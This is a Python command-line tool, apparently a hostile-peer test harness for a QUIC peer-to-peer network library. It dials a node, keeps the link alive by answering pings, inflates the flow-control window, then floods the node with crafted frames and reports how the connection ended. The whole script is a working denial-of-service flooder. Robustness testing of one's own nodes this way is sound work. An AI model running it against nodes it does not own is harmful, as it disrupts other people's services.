"""Dials a node, repeats frames, prints one JSON line about what it sent and how it ended."""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
import time
from collections.abc import Iterator
from itertools import cycle, repeat
from typing import Any

from nodenet_peer.address import quic_address
from nodenet_peer.control import PING, pong_frame
from nodenet_peer.edge import Edge
from nodenet_peer.frames import DecodeError, FrameType, encode_frame, parse_frame
from nodenet_peer.identity import Identity
from nodenet_peer.quicpeer import Connection, DialError

from .kinds import KINDS, Frames
from .quicflood import MAX_PAYLOAD, FloodEndpoint, FloodQuic

PACKETS_PER_ROUND = 32
CLOSE_SECONDS = 0.3


def payloads(frames: Frames | bytes, most: int) -> Iterator[tuple[bytes, int]]:
    """Fill packets with frames of one kind, which have about one size; tells their number, too."""
    if isinstance(frames, bytes):
        count = min(most, MAX_PAYLOAD // len(frames))
        yield from repeat((frames * count, count))
        return
    while True:
        out = bytearray()
        count = longest = 0
        while count < most and len(out) + longest <= MAX_PAYLOAD:
            piece = next(frames)
            if not piece:
                break
            out += piece
            count += 1
            longest = max(longest, len(piece))
        yield bytes(out), count


def keep_alive(edge: Edge, packet: bytes) -> None:
    """Answer pings, so that the node keeps the edge."""
    try:
        kind, _, _ = parse_frame(packet)
    except DecodeError:
        return
    observed = quic_address(edge.connection.remote_text)
    if kind == FrameType.PING and observed is not None:
        edge.send(pong_frame(observed))


async def grow_window(edge: Edge, size: int) -> None:
    """Send so many bytes in order, as fast as flow control allows, so that the node offers more."""
    frame = encode_frame(FrameType.APP, bytes(60_000))
    for _ in range(0, size, len(frame)):
        while edge.connection.quic._streams[0].sender._buffer and not edge.closed:
            await asyncio.sleep(0.001)
        edge.send(frame)


async def attack(options: argparse.Namespace) -> dict[str, Any]:
    node, _, address = options.target.partition("@")
    host, _, port = address.rpartition(":")
    remote = (host, int(port))
    endpoint = await FloodEndpoint.open(Identity.mint(0), lambda connection: None)
    assert isinstance(endpoint, FloodEndpoint)

    def edge_of(connection: Connection) -> Edge:
        return Edge(connection, keep_alive, lambda edge, info: None)

    connection = await asyncio.wait_for(endpoint.flood(remote, edge_of), 10)
    quic = connection.quic
    assert isinstance(quic, FloodQuic)
    if connection.peer_id.hex() != node:
        raise DialError("identity_mismatch")
    edge = connection.plane
    assert isinstance(edge, Edge)
    connection.open_stream()
    edge.send(PING)
    await asyncio.sleep(0.05)
    endpoint.delay = options.delay
    await grow_window(edge, options.grow)
    endpoint.delay = 0.0
    start, limit = quic.stream_window(0)
    window = limit - start

    attacks = cycle([payloads(KINDS[kind](quic), options.frames) for kind in options.kind])
    sent = packets = size = 0
    begun = time.monotonic()
    end = begun + options.seconds
    while time.monotonic() < end and not connection.closed.is_set():
        for _ in range(PACKETS_PER_ROUND):
            data, count = next(next(attacks))
            if not data:
                break
            packet = quic.packet(data)
            endpoint.send_raw(remote, packet)
            sent += count
            packets += 1
            size += len(packet)
        await asyncio.sleep(0)
    seconds = time.monotonic() - begun
    if options.linger and not connection.closed.is_set():
        await asyncio.sleep(options.linger)
    connection.close()
    endpoint_closed = asyncio.get_running_loop().time() + CLOSE_SECONDS
    while not connection.closed.is_set() and asyncio.get_running_loop().time() < endpoint_closed:
        await asyncio.sleep(0.01)
    info = connection.close_info
    ended = "open"
    if info is not None and not info.local:
        ended = "" if quic.closed_by_node else "own "
        ended += f"{'application' if info.application else 'transport'} close 0x{info.code:x}"
        ended += f" {info.reason}" if info.reason else ""
    return {
        "kind": "+".join(options.kind),
        "frames": sent,
        "packets": packets,
        "bytes": size,
        "seconds": round(seconds, 2),
        "issued": quic.issued_in_all,
        "window": window,
        "ended": ended,
    }


def main() -> int:
    parser = argparse.ArgumentParser(prog="hostile_peer", description=__doc__)
    parser.add_argument("--target", required=True, metavar="ID@HOST:PORT")
    parser.add_argument(
        "--kind",
        required=True,
        type=lambda text: text.split(","),
        metavar="KIND",
        help="one of, or several with commas, packet by packet in turn: " + ", ".join(KINDS),
    )
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--frames", type=int, default=1 << 20, help="frames in a packet, at most")
    parser.add_argument(
        "--grow", type=int, default=0, metavar="BYTES", help="bytes to send in order at first"
    )
    parser.add_argument(
        "--delay", type=float, default=0.0, help="seconds by which the --grow bytes are delayed"
    )
    parser.add_argument(
        "--linger", type=float, default=0.0, help="seconds to stay, silent, before the end"
    )
    options = parser.parse_args()
    unknown = [kind for kind in options.kind if kind not in KINDS]
    if unknown:
        parser.error(f"unknown kind {unknown[0]}")
    try:
        print(json.dumps(asyncio.run(attack(options))), flush=True)
    except (DialError, TimeoutError) as exc:
        print(json.dumps({"kind": "+".join(options.kind), "ended": f"no connection: {exc}"}))
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
